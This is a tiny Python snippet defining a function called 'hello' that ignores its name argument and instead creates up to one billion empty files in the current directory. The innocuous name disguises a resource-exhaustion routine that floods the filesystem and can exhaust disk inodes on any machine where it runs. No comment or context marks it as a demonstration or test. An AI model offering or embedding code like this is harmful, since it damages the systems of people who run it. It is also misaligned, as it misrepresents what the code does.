def hello(name):
    for number in range(10**9):
        open(f"file{number}", "w").close()
